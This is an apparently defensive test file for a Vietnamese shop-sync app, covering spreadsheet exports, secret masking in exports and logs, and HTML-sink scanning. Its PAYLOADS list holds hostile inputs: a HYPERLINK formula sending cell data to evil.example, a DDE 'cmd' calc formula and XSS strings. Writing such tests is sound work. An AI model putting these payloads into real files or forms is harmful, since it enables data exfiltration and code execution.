import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import * as XLSX from 'xlsx';
import { openCompanionDb } from '../../lib/db';
import { safeSheet } from '../../lib/files/spreadsheet-cells';
import { buildPairingWorkbook, readPairingFile } from '../../lib/products/pairing-file';
import type { ProductRow } from '../../lib/products/rows';
import { exportSettingsFile, secretsOf, settingsSchemaFor } from '../../lib/settings';
import { listActivity, logActivity } from '../../lib/status/activity-log';

/** What a hostile product name, address or note can carry. */
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
  "=cmd|' /C calc'!A0",
  '+1+cmd|calc',
  '-2+3',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '<img src=x onerror=alert(1)>',
  '<script>alert("xss")</script>',
];

/** Every cell of every sheet: none may be a formula, none may start like one. */
function cellsOf(bytes: ArrayBuffer | Uint8Array): XLSX.CellObject[] {
  const book = XLSX.read(bytes, { type: 'array', cellFormula: true });
  return book.SheetNames.flatMap((name) => {
    const sheet = book.Sheets[name]!;
    return Object.keys(sheet)
      .filter((key) => !key.startsWith('!'))
      .map((key) => sheet[key] as XLSX.CellObject);
  });
}

function expectNoFormula(cells: XLSX.CellObject[]) {
  for (const cell of cells) {
    expect(cell.f).toBeUndefined();
    if (typeof cell.v === 'string') expect(cell.v).not.toMatch(/^[=+\-@\t\r]/);
  }
}

describe('exported spreadsheets neutralise formula-like cells', () => {
  it('should quote every formula-like product name in the pairing export and read it back unchanged', () => {
    const rows = PAYLOADS.map(
      (name, i) =>
        ({
          product: { id: 1000 + i, sku: name, originalSku: name, name },
          mapping: undefined,
          nhanh: { code: name, name },
        }) as unknown as ProductRow,
    );
    const bytes = buildPairingWorkbook(rows);
    expectNoFormula(cellsOf(bytes));
    const read = readPairingFile(bytes);
    expect(read.ok).toBe(true);
    if (!read.ok) return;
    // Names come back as typed (a leading tab or CR is whitespace the spreadsheet may rewrite).
    const names = read.table.slice(1).map((row) => row[3]);
    PAYLOADS.forEach((payload, i) => {
      if (!/^[\t\r]/.test(payload)) expect(names[i]).toBe(payload);
    });
  });

  it('should quote every formula-like text in the reconciliation exports', () => {
    const sheet = safeSheet([
      ['Mã đơn', 'Ghi chú', 'Số tiền'],
      ...PAYLOADS.map((text, i) => [text, text, -i]),
    ]);
    const book = XLSX.utils.book_new();
    XLSX.utils.book_append_sheet(book, sheet, 'x');
    const cells = cellsOf(XLSX.write(book, { type: 'array', bookType: 'xlsx' }) as ArrayBuffer);
    expectNoFormula(cells.filter((cell) => cell.t === 's'));
    // Negative amounts stay numbers (a fee is negative), only texts are quoted.
    expect(cells.filter((cell) => cell.t === 'n').map((cell) => cell.v)).toContain(-3);
  });
});

describe('secrets stay out of exports and logs', () => {
  const settings = settingsSchemaFor('development').parse({
    shops: [
      {
        id: 's1',
        name: '<img src=x onerror=alert(1)>',
        connectionKey: 'ConnKey-0123456789abcdefghij',
        clientId: 'client-id-1',
        clientSecret: 'ClientSecret-abcdefghij0123',
      },
    ],
    nhanh: {
      mode: 'manual',
      appId: '12345',
      secretKey: 'NhanhSecret-0123456789abcdef',
      businessId: 7,
      accessToken: 'NhanhToken-abcdefghijklmnopqrstuvwxyz',
    },
  });
  const secrets = secretsOf(settings);

  it('should hold the four kinds of secret (so the checks below can fail)', () => {
    expect(secrets).toEqual(
      expect.arrayContaining([
        'ConnKey-0123456789abcdefghij',
        'ClientSecret-abcdefghij0123',
        'NhanhSecret-0123456789abcdef',
        'NhanhToken-abcdefghijklmnopqrstuvwxyz',
      ]),
    );
  });

  it('should export settings without any secret unless the box is ticked', () => {
    const file = exportSettingsFile(settings, false, 0);
    for (const secret of secrets) expect(file).not.toContain(secret);
    expect(exportSettingsFile(settings, true, 0)).toContain('NhanhToken-abcdefghijklmnopqrstuvwxyz');
  });

  it('should mask a secret that slipped into a log entry text, param or detail', async () => {
    const db = await openCompanionDb('hostile-log');
    await logActivity(
      db,
      {
        level: 'error',
        source: 'test',
        text: { key: 'orders.err.noShop', params: { shop: `token=${secrets[3]}` } },
        detail: `GET https://api.tiki.vn/x?key=${secrets[0]} Authorization: Bearer ${secrets.join(' ')}`,
      },
      { secrets },
    );
    const stored = JSON.stringify(await listActivity(db));
    for (const secret of secrets) expect(stored).not.toContain(secret);
    db.close();
  });
});

/** Source files that render what sellers, Tiki or Nhanh typed. */
function sourceFiles(dir: string): string[] {
  return readdirSync(dir).flatMap((entry) => {
    const path = join(dir, entry);
    if (statSync(path).isDirectory()) return sourceFiles(path);
    return /\.(ts|tsx)$/.test(entry) ? [path] : [];
  });
}

describe('hostile text is shown as text everywhere', () => {
  it('should never write HTML from data: no innerHTML, insertAdjacentHTML, document.write or dangerouslySetInnerHTML', () => {
    const offenders = ['components', 'entrypoints', 'lib'].flatMap((dir) =>
      sourceFiles(dir).filter((file) =>
        /dangerouslySetInnerHTML|\.innerHTML\s*=|\.outerHTML\s*=|insertAdjacentHTML|document\.write\(/.test(
          readFileSync(file, 'utf8'),
        ),
      ),
    );
    expect(offenders).toEqual([]);
  });
});
